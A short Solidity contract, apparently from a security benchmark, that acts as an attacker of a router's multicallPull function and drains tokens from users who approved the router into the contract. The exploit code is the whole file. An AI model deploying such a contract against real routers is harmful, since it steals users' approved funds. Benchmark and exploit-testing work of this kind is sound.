// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface IPullRouter {
    function multicallPull(address token, address[] calldata from, uint256[] calldata amounts, address to) external;
}

/// @title ApprovalHarvester
/// @notice Benchmark attacker of `ApprovalRouter.multicallPull`: moves approvers' tokens here, a
/// few victims per transaction. The loot stays here.
contract ApprovalHarvester {
    address public immutable owner;
    IPullRouter public immutable router;

    error NotOwner(address caller);

    constructor(IPullRouter router_) {
        owner = msg.sender;
        router = router_;
    }

    function harvest(address token, address[] calldata from, uint256[] calldata amounts) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        router.multicallPull(token, from, amounts, address(this));
    }
}
